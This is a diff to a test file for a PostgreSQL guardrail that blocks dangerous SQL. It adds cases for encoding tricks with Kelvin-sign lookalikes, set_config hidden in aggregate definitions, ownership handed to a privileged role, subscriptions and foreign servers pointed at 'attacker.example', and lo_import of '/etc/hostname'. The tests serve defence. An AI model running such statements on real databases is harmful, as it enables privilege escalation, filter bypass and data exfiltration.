@@ -201,6 +201,15 @@ describe('guardrails: statements that would make the target read SQL differently
       "update pg_settings set setting = 'off' where name = 'standard_conforming_strings'",
       "update pg_catalog.pg_settings set setting = 'SJIS' where name = 'client_encoding'",
       "select 1; set standard_conforming_strings = off",
+      // An allow list since a review on 2026-12-02: EUC_JP reads two byte sequences as one
+      // character, and PostgreSQL drops the Kelvin sign from SJ\u212AIS and reads SJIS.
+      "set client_encoding = 'EUC_JP'",
+      "set names 'LATIN1'",
+      "set client_encoding = 'SJ\u212AIS'",
+      "set names 'big5\u212A'",
+      "select set_config('client_encoding', 'G\u212ABK', false)",
+      "select set_config('client_encoding', 'EUC_JP', false)",
+      "create function pg_temp.f() returns int language sql set client_encoding = 'EUC_JP' as 'select 1'",
     ]) {
       expect(denied(sql, ['truncate']), sql).toBe('lexing');
       expect(denied(sql, [], true), sql).not.toBeNull(); // read_only where that applies too, else lexing
@@ -214,7 +223,7 @@ describe('guardrails: statements that would make the target read SQL differently
     for (const sql of [
       'reset standard_conforming_strings', 'reset client_encoding', 'reset all', 'set standard_conforming_strings to default', 'set client_encoding to default',
       'set standard_conforming_strings = on', 'set standard_conforming_strings = true', 'set standard_conforming_strings = 1',
-      "set client_encoding = 'UTF8'", "set client_encoding to 'utf-8'", "set names 'LATIN1'", "select set_config('standard_conforming_strings', 'on', false)",
+      "set client_encoding = 'UTF8'", "set client_encoding to 'utf-8'", "set names 'unicode'", "set client_encoding = 'SQL_ASCII'", "select set_config('standard_conforming_strings', 'on', false)",
       'set backslash_quote = on',
     ]) {
       expect(denied(sql, ALL, true), sql).toBeNull();
@@ -242,8 +251,14 @@ describe('guardrails: statements that would make the target read SQL differently
     const { lexingHazard } = await import('./guardrails.js');
     expect(lexingHazard('standard_conforming_strings', 'off')).toMatch(/backslashes/);
     expect(lexingHazard('standard_conforming_strings', 'on')).toBeUndefined();
-    for (const enc of ['SJIS', 'BIG5', 'GBK', 'UHC', 'GB18030', 'JOHAB', 'SHIFT_JIS_2004', 'sjis']) expect(lexingHazard('client_encoding', enc), enc).toMatch(/hide quotes/);
-    for (const enc of ['UTF8', 'SQL_ASCII', 'LATIN1', 'EUC_JP', 'WIN1252']) expect(lexingHazard('client_encoding', enc), enc).toBeUndefined();
+    for (const enc of ['SJIS', 'BIG5', 'GBK', 'UHC', 'GB18030', 'JOHAB', 'SHIFT_JIS_2004', 'sjis', 'EUC_JP', 'LATIN1', 'WIN1252', 'SJ\u212AIS', 'UTF8\u212A', 'ut\u017F8']) {
+      expect(lexingHazard('client_encoding', enc), enc).toMatch(/is not UTF8/);
+    }
+    for (const enc of ['UTF8', 'utf-8', 'Unicode', 'SQL_ASCII', 'sql-ascii']) expect(lexingHazard('client_encoding', enc), enc).toBeUndefined();
+    // The database's own encoding, reported at login: statements are converted into it.
+    expect(lexingHazard('server_encoding', 'EUC_JP')).toMatch(/is not UTF8/);
+    expect(lexingHazard('server_encoding', 'LATIN1')).toMatch(/is not UTF8/);
+    for (const enc of ['UTF8', 'SQL_ASCII']) expect(lexingHazard('server_encoding', enc), enc).toBeUndefined();
     expect(lexingHazard('application_name', 'SJIS')).toBeUndefined();
   });
 });
@@ -288,6 +303,57 @@ describe('guardrails: definitions that name functions (third review)', () => {
     expect(denied('create cast (int as text) with function pg_terminate_backend(int)', NO_DDL)).toBe('escape');
     expect(denied('create trigger t after insert on x for each row execute function cron.schedule()', NO_DDL)).toBe('write');
     expect(denied('create operator class c for type int using btree as function 1 pg_catalog.setval(regclass, bigint)', NO_DDL)).toBe('write');
+  });
+  it('reads every option of a definition as a possible function (review 2026-12-02: the old sfunc1 made set_config an aggregate\'s step)', () => {
+    const sfunc1 = "create aggregate pg_temp.sc(text, bool) (sfunc1 = set_config, stype1 = text, initcond1 = 'role')";
+    expect(denied(sfunc1, ['set_role'])).toBe('set_role');
+    expect(denied(sfunc1, ['escape'])).toBe('escape');
+    expect(denied(sfunc1, NO_DDL)).not.toBeNull();
+    expect(denied(sfunc1, [], true)).toBe('read_only');
+    expect(denied('create aggregate pg_temp.lo(bytea) (sfunc1 = lo_from_bytea, stype1 = oid)', ['write'])).toBe('write');
+    // A text search template's functions, which no list of option names had either.
+    expect(denied('create text search template pg_temp.t (lexize = pg_notify)', NO_DDL)).toBe('write');
+    // Ordinary definitions stay allowed.
+    expect(denied('create aggregate pg_temp.s(int) (sfunc1 = int4pl, stype1 = int, initcond1 = 0)', NO_DDL)).toBeNull();
+  });
+});
+
+describe('guardrails: other roles\' rights, settings and outside connections by other names (review 2026-12-02)', () => {
+  const NO_DDL = ['write', 'truncate', 'write_without_where', 'copy_program', 'set_role', 'escape'];
+  it('a view of pg_settings is UPDATE pg_settings', () => {
+    for (const sql of ['create temp view s as select * from pg_settings', 'create view s as select name, setting from pg_catalog.pg_settings where true']) {
+      expect(denied(sql, ['escape']), sql).toBe('escape');
+      expect(denied(sql, ['truncate']), sql).toBe('lexing'); // any checked role: it could change how SQL is read
+      expect(denied(sql, [], true), sql).not.toBeNull();
+    }
+    expect(denied('create temp view v as select 1 as one', NO_DDL)).toBeNull();
+  });
+  it('handing an object to another role is SET ROLE by another name', () => {
+    for (const sql of [
+      'alter view v owner to hp_priv', 'alter table t owner to hp_priv', 'alter function f() owner to hp_priv',
+      'create schema s authorization hp_priv create view v as select * from secrets', 'reassign owned by current_user to hp_priv',
+    ]) {
+      expect(denied(sql, ['set_role']), sql).toBe('set_role');
+      expect(denied(sql, ['escape']), sql).toBe('escape');
+    }
+    for (const sql of ['alter table t owner to current_user', 'alter function f() owner to session_user', 'create schema s authorization current_role', 'create schema s']) {
+      expect(denied(sql, ['set_role']), sql).toBeNull();
+    }
+  });
+  it('the lists: renaming a role, a copied replication slot, outside connections, lo_import, ALTER SEQUENCE RESTART', () => {
+    expect(denied('alter role victim rename to other', ['escape'])).toBe('escape');
+    expect(denied("select pg_copy_logical_replication_slot('src', 'copied')", ['escape'])).toBe('escape');
+    expect(denied("select pg_copy_physical_replication_slot('src', 'copied')", ['escape'])).toBe('escape');
+    for (const sql of [
+      "create subscription s connection 'host=attacker.example dbname=x' publication p",
+      "alter subscription s connection 'host=attacker.example'",
+      "create server s foreign data wrapper postgres_fdw options (host 'attacker.example')",
+      "alter server s options (set host 'attacker.example')",
+      "create user mapping for current_user server s options (user 'x', password 'y')",
+    ]) expect(denied(sql, ['escape']), sql).toBe('escape');
+    expect(denied("select lo_import('/etc/hostname')", ['write'])).toBe('write');
+    expect(denied('alter sequence s restart with 1000', ['write'])).toBe('write');
+    expect(denied('alter sequence s increment by 2', ['write'])).toBeNull();
   });
 });
 
